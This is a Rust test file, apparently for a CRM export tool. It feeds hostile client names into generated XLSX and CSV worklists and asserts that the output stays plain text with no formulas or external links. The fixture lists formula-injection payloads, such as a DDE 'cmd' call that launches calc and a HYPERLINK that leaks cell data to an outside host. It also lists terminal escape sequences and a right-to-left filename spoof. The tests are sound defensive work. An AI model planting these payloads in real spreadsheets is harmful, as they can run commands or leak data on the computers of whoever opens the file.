//! Names that would be formulas, commands or attacks on the reader: whatever a client calls itself, it is text.

use std::fs;
use std::io::{Cursor, Read};
use std::path::Path;

use calamine::{Data, Reader, Xlsx};

use untether::model::params::Language;
use untether::pipeline::Study;
use untether::plan::Task;
use untether::worklist::FileKind;

use super::filled::{Saved, Sheet};
use super::{bytes, study};

/// What people call themselves.
fn names() -> Vec<String> {
    let mut names: Vec<String> = [
        "=HYPERLINK(\"http://x.invalid/?\"&A1,\"ok\")",
        "=cmd|'/C calc'!A0",
        "@SUM(1+1)*cmd|'/C calc'!A0",
        "+1",
        "-2+3",
        "\t=1+1",
        "a\r\n=1+1",
        "\u{feff}=1+1",
        "\u{200b}=1+1",
        "\" =1+1\"",
        "＝1+1",
        ";=1+1",
        "'=1+1",
        "A\u{1b}[2J\u{9b}2J\u{7}",
        "invoice\u{202e}fdp.exe",
        "_x0041_=1",
        "http://x.invalid",
        "<f>1+1</f>",
        "1,234",
        "TRUE",
    ]
    .map(str::to_owned)
    .into();
    names.push("я".repeat(40_000));
    names
}

/// A CRM in which each of them is a record, and a log of messages in which each is known by its name alone.
fn world(folder: &Path) {
    let mut records = csv::Writer::from_path(folder.join("contacts.csv")).expect("writable");
    let mut log = csv::Writer::from_path(folder.join("messages.csv")).expect("writable");
    records.write_record(["ID", "Name", "Telegram", "Phone"]).expect("written");
    log.write_record(["time", "channel", "direction", "name", "text"]).expect("written");
    for (number, name) in names().iter().enumerate() {
        let id = format!("={number}");
        records.write_record([&id, name, "", ""]).expect("written");
        let time = format!("2026-01-{:02} 10:00:00", number + 1);
        log.write_record([&time, "whatsapp", "inbound", &format!("{name} w"), "x"]).expect("written");
    }
    records.flush().expect("written");
    log.flush().expect("written");
}

/// A task of each kind for every client.
fn tasks(study: &Study) -> Vec<Task> {
    let actions =
        ["ask-stranded", "create-records", "import-recoverable", "prove-fallback", "repair-contacts"];
    let clients = 0..study.audit.audience.clients.len();
    let task = |client, action| Task { client, action, channel: None, weight: 1.0, value: 0.0 };
    clients.flat_map(|client| actions.map(|action| task(client, action))).collect()
}

fn hostile() -> (tempfile::TempDir, Study) {
    let folder = tempfile::tempdir().expect("a folder");
    world(folder.path());
    let (study, _) = study(folder.path(), &["contacts.csv", "messages.csv"]);
    assert!(study.audit.audience.clients.len() >= names().len());
    (folder, study)
}

#[test]
fn a_workbook_holds_text_and_no_formulas() {
    let (_folder, study) = hostile();
    let bytes = bytes(&study, &tasks(&study), Language::En, FileKind::Xlsx);
    let mut book = Xlsx::new(Cursor::new(&bytes)).expect("a workbook");
    let name = book.sheet_names()[0].clone();
    let formulas = book.worksheet_formula(&name).expect("a sheet");
    assert!(formulas.used_cells().all(|(_, _, formula)| formula.is_empty()));
    let range = book.worksheet_range(&name).expect("a sheet");
    let mut texts: Vec<&str> = Vec::new();
    for (_, _, cell) in range.used_cells() {
        match cell {
            Data::String(text) => texts.push(text),
            Data::Float(_) | Data::DateTime(_) => {}
            other => panic!("{other:?}"),
        }
    }
    assert!(texts.iter().any(|text| text.starts_with("=HYPERLINK")), "the name is there as it is");
    assert!(texts.contains(&"_x0041_=1 w"));
    assert!(texts.iter().all(|text| text.chars().count() <= 400 || text.starts_with("whatsapp-name:")));
    let visible = |text: &&str| !text.chars().any(|c| c.is_control() || matches!(c, '\u{202e}' | '\u{200b}'));
    assert!(texts.iter().all(visible));
    let mut archive = zip::ZipArchive::new(Cursor::new(&bytes)).expect("an archive");
    for index in 0..archive.len() {
        let mut part = archive.by_index(index).expect("a part");
        let place = part.name().expect("a name").into_owned();
        let mut text = String::new();
        part.read_to_string(&mut text).expect("text");
        for tag in ["<f>", "<f ", "hyperlink", "externalLink", "TargetMode=\"External\""] {
            assert!(!text.contains(tag), "{place} holds {tag}");
        }
        // Nobody is named as the author, and no clock was asked.
        for (at, tag) in text.match_indices("<dc:creator>").chain(text.match_indices("<cp:lastModifiedBy>")) {
            assert!(text[at + tag.len()..].starts_with("</"), "{place}: {tag}");
        }
        for (at, tag) in text.match_indices("<dcterms:created xsi:type=\"dcterms:W3CDTF\">") {
            assert!(text[at + tag.len()..].starts_with("2000-01-01"), "{place}");
        }
    }
}

#[test]
fn delimited_text_holds_nothing_that_a_spreadsheet_runs() {
    let (_folder, study) = hostile();
    for language in [Language::En, Language::Ru] {
        let bytes = bytes(&study, &tasks(&study), language, FileKind::Csv);
        assert!(bytes.starts_with("\u{feff}\"".as_bytes()) && bytes.ends_with(b"\"\r\n"));
        let sheet = Sheet::open(&bytes, FileKind::Csv);
        assert!(sheet.len() > names().len());
        for cell in sheet.rows.iter().flatten() {
            let bare =
                cell.trim_start_matches(|c: char| c.is_whitespace() || "\"\u{feff}\u{200b}".contains(c));
            assert!(!bare.starts_with(['=', '+', '-', '@', '＝']), "{cell}");
            assert!(!cell.chars().any(char::is_control), "{cell}");
        }
        let separator = if language == Language::Ru { "\";\"" } else { "\",\"" };
        let text = String::from_utf8(bytes).expect("UTF-8");
        assert!(text.lines().all(|line| line.matches(separator).count() >= 15));
    }
}

#[test]
fn every_client_whose_handle_fits_into_a_cell_is_found_again() {
    let (folder, study) = hostile();
    let tasks: Vec<Task> = tasks(&study).into_iter().filter(|task| task.action == "ask-stranded").collect();
    for (kind, saved) in [(FileKind::Xlsx, Saved::Book), (FileKind::Csv, Saved::Windows)] {
        let mut sheet = Sheet::open(&bytes(&study, &tasks, Language::Ru, kind), kind);
        for row in 0..sheet.len() {
            sheet.fill(row, "Новая почта", &format!("client{row}@postoak-mail.com"));
        }
        let file = format!("worklist.{}", if saved == Saved::Book { "xlsx" } else { "csv" });
        fs::write(folder.path().join(&file), sheet.save(saved)).expect("writable");
        let (after, _) = super::study(folder.path(), &["contacts.csv", "messages.csv", &file]);
        let source = after.report.sources.iter().find(|source| source.path == file).expect("the worklist");
        // The name of 40 000 letters, as a chat partner: it stands in no cell, and the row says so by being left out.
        let left_out: Vec<_> =
            source.left_out.iter().map(|left| (left.reason.as_str(), left.count)).collect();
        assert_eq!(left_out, [("no-counterpart", 1)], "{kind:?}");
        assert_eq!(source.records, tasks.len() as u64 - 1);
        assert_eq!(after.report.clients.total, study.report.clients.total);
        let with_mail = after.audit.audience.clients.iter().filter(|client| client.email.is_usable);
        assert_eq!(with_mail.count(), tasks.len() - 1);
    }
}

#[test]
fn the_same_audit_gives_the_same_bytes() {
    let (folder, first) = hostile();
    let (second, _) = study(folder.path(), &["messages.csv", "contacts.csv"]);
    for kind in [FileKind::Xlsx, FileKind::Csv] {
        let write = |study: &Study| bytes(study, &tasks(study), Language::Ru, kind);
        assert!(write(&first) == write(&second), "{kind:?} differs");
    }
}
